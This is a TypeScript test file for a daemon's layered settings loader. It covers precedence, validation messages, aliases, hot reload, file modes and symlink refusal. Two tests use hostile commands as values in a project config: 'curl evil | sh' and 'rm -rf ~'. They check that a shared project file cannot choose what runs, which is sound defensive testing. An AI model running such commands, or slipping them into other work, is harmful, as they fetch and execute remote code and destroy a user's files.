import {
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { DaemonError } from '#contract/errors.ts';
import { choice, flag, integer, needsRestart, number, perProject, text } from '../ports/knob.ts';
import { tempFolder } from '../testing/temp-home.ts';
import { Settings } from './settings.ts';

const DEPTH = perProject(
  integer('RECALL_DEPTH', { default: 50, min: 1, max: 500, doc: 'How many', aliases: ['OLD_DEPTH'] }),
);
const WEIGHT = number('RECALL_WEIGHT', { default: 0.5, min: 0, max: 1, doc: 'How much' });
const ARM = flag('RECALL_ARM', true, 'Search');
const MODE = perProject(choice('RECALL_MODE', ['fast', 'exact'], 'fast', 'How'));
const COMMAND = text('REFLECT_COMMAND', '', 'What to run');
const THREADS = needsRestart(integer('REFLECT_THREADS', { default: 2, min: 1, max: 64, doc: 'How many' }));
const KNOBS = [DEPTH, WEIGHT, ARM, MODE, COMMAND, THREADS];

function world({
  home = '',
  project = '',
  environment = {},
}: { home?: string; project?: string; environment?: NodeJS.ProcessEnv } = {}) {
  const folder = tempFolder();
  const file = join(folder, 'home', 'config.toml');
  const projectRoot = join(folder, 'project');
  const projectFile = join(projectRoot, '.reflect', 'config.toml');
  mkdirSync(join(folder, 'home'));
  mkdirSync(join(projectRoot, '.reflect'), { recursive: true });
  if (home) writeFileSync(file, home);
  if (project) writeFileSync(projectFile, project);
  const open = () => new Settings(file, environment, KNOBS);
  return { file, projectRoot, projectFile, open };
}

function refusal(work: () => unknown): string {
  try {
    work();
  } catch (error) {
    if (error instanceof DaemonError && error.code === 'bad-knob') return error.message;
    throw error;
  }
  throw new Error('it was not refused');
}

describe('precedence', () => {
  test('call beats environment beats project beats home beats default', () => {
    const { open, projectRoot } = world({
      home: 'RECALL_DEPTH = 1\n',
      project: 'RECALL_DEPTH = 2\n',
      environment: { RECALL_DEPTH: '3' },
    });
    const layers = open();
    expect(layers.state(DEPTH, { projectRoot, call: { RECALL_DEPTH: 4 } })).toMatchObject({
      value: 4,
      source: 'call',
    });
    expect(layers.state(DEPTH, { projectRoot })).toMatchObject({ value: 3, source: 'environment' });
    const { open: openQuiet, projectRoot: root } = world({
      home: 'RECALL_DEPTH = 1\n',
      project: 'RECALL_DEPTH = 2\n',
    });
    expect(openQuiet().state(DEPTH, { projectRoot: root })).toMatchObject({ value: 2, source: 'project' });
    expect(openQuiet().state(DEPTH)).toMatchObject({ value: 1, source: 'home' });
    expect(openQuiet().state(WEIGHT)).toMatchObject({
      value: 0.5,
      source: 'default',
      default: 0.5,
      min: 0,
      max: 1,
    });
    expect(openQuiet().resolver({ projectRoot: root })(DEPTH)).toBe(2);
  });

  test('an empty variable counts as unset, and unrelated variables are ignored', () => {
    const settings = world({ environment: { RECALL_DEPTH: '', PATH: '/bin', RECALL_UNKNOWN: 'x' } }).open();
    expect(settings.state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
  });
});

describe('refusals name the place and the knob', () => {
  test.each([
    ['RECALL_DEPTH = 501', /config\.toml: RECALL_DEPTH takes a whole number from 1 to 500, not 501/],
    ['RECALL_DEPTH = 1.5', /config\.toml: RECALL_DEPTH takes a whole number/],
    ['RECALL_WEIGHT = "much"', /config\.toml: RECALL_WEIGHT takes a number from 0 to 1, not "much"/],
    ['RECALL_ARM = "maybe"', /config\.toml: RECALL_ARM takes true or false/],
    ['RECALL_MODE = "slow"', /config\.toml: RECALL_MODE takes one of fast, exact/],
    ['REFLECT_COMMAND = 5', /config\.toml: REFLECT_COMMAND takes a text/],
    ['RECALL_DEPHT = 5', /config\.toml: RECALL_DEPHT is not a setting; did you mean RECALL_DEPTH\?/],
    ['[recall]\ndepth = 5', /config\.toml: recall is not a setting/],
    ['RECALL_DEPTH = ', /config\.toml is not valid TOML/],
    ['RECALL_DEPTH = [5 # never closed', /config\.toml is not valid TOML/],
  ])('the home file with %s stops the start', (home, message) => {
    expect(refusal(() => world({ home }).open())).toMatch(message);
  });

  test('the environment', () => {
    expect(refusal(() => world({ environment: { RECALL_DEPTH: '0' } }).open())).toMatch(
      /The environment: RECALL_DEPTH takes a whole number from 1 to 500, not "0"/,
    );
  });

  test('the call, also for an unknown name', () => {
    const settings = world().open();
    expect(refusal(() => settings.resolver({ projectRoot: null, call: { RECALL_WEIGHT: 2 } }))).toMatch(
      /The call: RECALL_WEIGHT takes a number from 0 to 1, not 2/,
    );
    expect(refusal(() => settings.resolver({ projectRoot: null, call: { NOPE: 2 } }))).toMatch(
      /The call: NOPE is not a setting/,
    );
  });

  test('setting', () => {
    const { open, file } = world({ home: 'RECALL_DEPTH = 5\n' });
    expect(refusal(() => open().set('RECALL_DEPTH', 'many'))).toMatch(/RECALL_DEPTH takes/);
    expect(refusal(() => open().set('NOPE', 1))).toMatch(/NOPE is not a setting/);
    expect(readFileSync(file, 'utf8')).toBe('RECALL_DEPTH = 5\n');
  });
});

describe("a project's file", () => {
  test('may not set personal settings: that is reported, and the rest of the file counts', () => {
    const { open, projectRoot } = world({
      project: 'REFLECT_COMMAND = "curl evil | sh"\nRECALL_DEPTH = 2\n',
    });
    const settings = open();
    expect(settings.state(COMMAND, { projectRoot })).toMatchObject({ value: '', source: 'default' });
    expect(settings.state(DEPTH, { projectRoot })).toMatchObject({ value: 2, source: 'project' });
    expect(settings.projectProblem(projectRoot)).toMatch(
      /config\.toml: REFLECT_COMMAND is not read per project/,
    );
  });

  test('with mistakes is not fatal: each is reported, and valid settings count', () => {
    const { open, projectRoot } = world({ project: 'RECALL_DEPTH = 0\nNOPE = 1\nRECALL_MODE = "exact"\n' });
    const settings = open();
    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
    expect(settings.resolver({ projectRoot })(MODE)).toBe('exact');
    expect(settings.projectProblem(projectRoot)).toMatch(/RECALL_DEPTH takes .*; .*NOPE is not a setting/);
  });

  test('that is not TOML, or a folder, is reported and ignored', () => {
    const { open, projectRoot } = world({ project: '= = =' });
    expect(open().resolver({ projectRoot })(DEPTH)).toBe(50);
    expect(open().projectProblem(projectRoot)).toMatch(/not valid TOML/);
    const other = tempFolder();
    mkdirSync(join(other, '.reflect', 'config.toml'), { recursive: true });
    expect(open().resolver({ projectRoot: other })(DEPTH)).toBe(50);
    expect(open().projectProblem(other)).not.toBe('');
  });

  test('is read again when it changes, appears or disappears', () => {
    const { open, projectRoot, projectFile } = world();
    const settings = open();
    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
    writeFileSync(projectFile, 'RECALL_DEPTH = 7\n');
    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(7);
    writeFileSync(projectFile, 'RECALL_DEPTH = 8\n');
    utimesSync(projectFile, 1_000, 1_000);
    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(8);
    expect(settings.projectProblem(projectRoot)).toBe('');
  });
});

describe('setting', () => {
  test('writes the home file readable by its owner only, survives a restart, and null removes it', () => {
    const { open, file } = world();
    const settings = open();
    settings.set('RECALL_DEPTH', '7');
    settings.set('REFLECT_COMMAND', 'say "hi" = yes');
    expect(settings.resolver({ projectRoot: null })(DEPTH)).toBe(7);
    expect(open().resolver()(COMMAND)).toBe('say "hi" = yes');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    settings.set('RECALL_DEPTH', null);
    expect(open().state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
    expect(open().resolver()(COMMAND)).toBe('say "hi" = yes');
  });

  test('keeps comments and edits made since the start', () => {
    const { open, file } = world({ home: '# mine\nRECALL_DEPTH = 5 # not more\n' });
    const settings = open();
    writeFileSync(file, '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\n');
    settings.set('RECALL_WEIGHT', 0.25);
    expect(readFileSync(file, 'utf8')).toBe(
      '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\nRECALL_WEIGHT = 0.25\n',
    );
    expect(settings.resolver({ projectRoot: null })(MODE)).toBe('exact');
    settings.set('RECALL_DEPTH', 6);
    expect(readFileSync(file, 'utf8')).toContain('# by hand');
    expect(open().resolver({ projectRoot: null })(DEPTH)).toBe(6);
  });

  test('a value over several lines is replaced as a whole', () => {
    const { open, file } = world({ home: 'REFLECT_COMMAND = """\none\nRECALL_DEPTH = 9\n"""\n' });
    open().set('RECALL_DEPTH', 3);
    expect(open().resolver()(COMMAND)).toBe('one\nRECALL_DEPTH = 9\n');
    expect(open().resolver({ projectRoot: null })(DEPTH)).toBe(3);
    open().set('REFLECT_COMMAND', 'two');
    expect(open().resolver()(COMMAND)).toBe('two');
    expect(readFileSync(file, 'utf8')).not.toContain('one');
  });

  test('a file broken since the start is refused by name and left as it is', () => {
    const { open, file } = world();
    const settings = open();
    writeFileSync(file, '= broken');
    expect(refusal(() => settings.set('RECALL_DEPTH', 3))).toMatch(/config\.toml is not valid TOML/);
    expect(readFileSync(file, 'utf8')).toBe('= broken');
  });
});

describe('the table of events', () => {
  const CREATED = text('REFLECT_EVENTS_ON_LEARNING_CREATED', '', 'What to run');
  const opened = (home: string, project = '') => {
    const { file, projectRoot } = world({ home, project });
    return { file, projectRoot, open: () => new Settings(file, {}, [...KNOBS, CREATED]) };
  };

  test.each([
    '[events.on]\n"learning.created" = "say hi"',
    '[events.on]\nlearning.created = "say hi"',
    '[events.on.learning]\ncreated = "say hi"',
  ])('%j is the setting of that event', (toml) => {
    expect(opened(toml).open().state(CREATED)).toMatchObject({ value: 'say hi', source: 'home' });
  });

  test('refuses unknown events and other keys', () => {
    expect(refusal(opened('[events.on]\n"learning.eaten" = "x"').open)).toContain(
      'REFLECT_EVENTS_ON_LEARNING_EATEN is not a setting',
    );
    expect(refusal(opened('[events]\nlater = 1').open)).toContain('only be configured in [events.on]');
    expect(refusal(opened('[events.on]\n"learning.created" = 5').open)).toContain('takes a text');
  });

  test('of a project is refused: only the owner of this machine decides what runs', () => {
    const { open, projectRoot } = opened('', '[events.on]\n"learning.created" = "rm -rf ~"');
    const settings = open();
    expect([settings.resolver({ projectRoot })(CREATED), settings.projectProblem(projectRoot)]).toEqual([
      '',
      expect.stringContaining('is not read per project'),
    ]);
  });

  test('stays as it is when another setting is changed', () => {
    const { file, open } = opened('RECALL_DEPTH = 1\n\n# mine\n[events.on]\n"learning.created" = "say hi"\n');
    const settings = open();
    settings.set('RECALL_DEPTH', 7);
    expect(readFileSync(file, 'utf8')).toBe(
      '# mine\nRECALL_DEPTH = 7\n\n[events.on]\n"learning.created" = "say hi"\n',
    );
    expect([settings.resolver({ projectRoot: null })(DEPTH), settings.resolver()(CREATED)]).toEqual([
      7,
      'say hi',
    ]);
  });
});

describe('an alias', () => {
  test('sets its knob from every place; the own name wins, and setting it removes the alias', () => {
    const { open, file, projectRoot } = world({
      home: 'OLD_DEPTH = 4\n',
      project: 'OLD_DEPTH = 5\nRECALL_DEPTH = 6\n',
    });
    const settings = open();
    expect(settings.state(DEPTH)).toMatchObject({ name: 'RECALL_DEPTH', value: 4, source: 'home' });
    expect(settings.state(DEPTH, { projectRoot })).toMatchObject({ value: 6, source: 'project' });
    expect(settings.resolver({ projectRoot, call: { OLD_DEPTH: 7 } })(DEPTH)).toBe(7);
    const fromEnvironment = world({ environment: { OLD_DEPTH: '8' } }).open();
    expect(fromEnvironment.state(DEPTH)).toMatchObject({ value: 8, source: 'environment' });
    settings.set('OLD_DEPTH', 9);
    expect(readFileSync(file, 'utf8')).toBe('RECALL_DEPTH = 9\n');
  });
});

describe('the home file, edited while the daemon runs', () => {
  const later = () => new Promise((resolve) => setTimeout(resolve, 300));

  test('counts from the next use on, and listeners hear which settings are others now', async () => {
    const { open, file } = world({ home: 'RECALL_DEPTH = 5\nRECALL_WEIGHT = 0.1\n' });
    const settings = open();
    const heard: string[][] = [];
    settings.onChange((changed) => heard.push([...changed].toSorted()));
    writeFileSync(file, 'RECALL_DEPTH = 6\nRECALL_WEIGHT = 0.1\nRECALL_ARM = false\n');
    await later();
    expect(settings.state(DEPTH).value).toBe(6);
    settings.set('RECALL_WEIGHT', 0.2);
    expect(heard).toEqual([['RECALL_ARM', 'RECALL_DEPTH'], ['RECALL_WEIGHT']]);
  });

  test('names what counts in the environment only', () => {
    const { open, file } = world({ home: '' });
    writeFileSync(file, 'RECALL_LEARNINGS_ROOT = "/notes"\n');
    expect(open).toThrow(/RECALL_LEARNINGS_ROOT counts only as a variable of the environment/);
  });

  test('with a mistake changes nothing and is reported, until it is mended', async () => {
    const { open, file } = world({ home: 'RECALL_DEPTH = 5\n' });
    const settings = open();
    writeFileSync(file, 'RECALL_DEPHT = 6\n');
    await later();
    expect(settings.state(DEPTH).value).toBe(5);
    expect(settings.homeProblem).toMatch(/RECALL_DEPHT is not a setting; did you mean RECALL_DEPTH/);
    writeFileSync(file, 'RECALL_DEPTH = 66\n');
    await later();
    expect([settings.state(DEPTH).value, settings.homeProblem]).toEqual([66, '']);
  });
});

test('a setting that is read at the start says so, and that it waits for one while it differs', () => {
  const settings = world({ home: 'REFLECT_THREADS = 3\n' }).open();
  expect(settings.state(THREADS)).toMatchObject({ value: 3, needsRestart: true, awaitsRestart: false });
  settings.set('REFLECT_THREADS', 4);
  expect(settings.state(THREADS)).toMatchObject({ value: 4, awaitsRestart: true });
  settings.set('REFLECT_THREADS', 3);
  expect(settings.state(THREADS).awaitsRestart).toBe(false);
  expect(settings.state(WEIGHT)).toMatchObject({ needsRestart: false, awaitsRestart: false });
});

describe('setting in a project', () => {
  test('writes its own file, readable by all who share the repository, and counts at once', () => {
    const { open, projectRoot, projectFile, file } = world();
    const settings = open();
    settings.set('RECALL_DEPTH', 7, projectRoot);
    expect(settings.state(DEPTH, { projectRoot })).toMatchObject({ value: 7, source: 'project' });
    expect(settings.state(DEPTH).value).toBe(50);
    expect([readFileSync(projectFile, 'utf8'), existsSync(file)]).toEqual(['RECALL_DEPTH = 7\n', false]);
    expect(statSync(projectFile).mode & 0o777).toBe(0o644);
  });

  test('is refused for what is not read per project', () => {
    const { open, projectRoot, projectFile } = world();
    expect(refusal(() => open().set('RECALL_WEIGHT', 1, projectRoot))).toMatch(
      /RECALL_WEIGHT is not read per project; set it in your own configuration/,
    );
    expect(existsSync(projectFile)).toBe(false);
  });
});

describe('a table of memories', () => {
  const THRESHOLD = number('REFLECT_MEMORY_SIMILARITY_THRESHOLD', {
    default: 0.5,
    min: 0,
    max: 1,
    doc: 'threshold',
  });
  const ALPHA = number('Q_LEARNING_ALPHA', { default: 0.3, min: 0, max: 1, doc: 'alpha' });
  const opened = (toml: string) => {
    const file = join(tempFolder(), 'config.toml');
    writeFileSync(file, toml);
    return new Settings(file, {}, [THRESHOLD, ALPHA]);
  };

  test('sets what its keys name, and a setting under its own name wins', () => {
    const settings = opened('[memory]\nsimilarity_threshold = 0.35\n\n[q_learning]\nalpha = 0.1\n');
    expect(settings.state(THRESHOLD)).toMatchObject({ value: 0.35, source: 'home' });
    expect(settings.resolver()(ALPHA)).toBe(0.1);
    expect(opened('Q_LEARNING_ALPHA = 0.7\n[q_learning]\nalpha = 0.1\n').resolver()(ALPHA)).toBe(0.7);
    settings.set('Q_LEARNING_ALPHA', 0.9);
    expect([settings.resolver()(ALPHA), settings.resolver()(THRESHOLD)]).toEqual([0.9, 0.35]);
  });

  test('refuses a key that names nothing and a value out of range', () => {
    expect(refusal(() => opened('[memory]\ncolour = 1'))).toContain('REFLECT_MEMORY_COLOUR is not a setting');
    expect(refusal(() => opened('[memory]\nsimilarity_threshold = 2'))).toContain('a number from 0 to 1');
  });
});

test.each([
  ['a device', '/dev/zero', /leads out of/],
  ['a file elsewhere', '/etc/hostname', /leads out of/],
  ['itself', 'config.toml', /ELOOP/],
])('settings that are a link to %s are reported, and nothing is read', (_what, target, why) => {
  const { open, projectRoot, projectFile } = world();
  symlinkSync(target, projectFile);
  const settings = open();
  expect(settings.projectProblem(projectRoot)).toMatch(why);
  expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
  rmSync(projectFile);
  expect(settings.projectProblem(projectRoot)).toBe('');
});
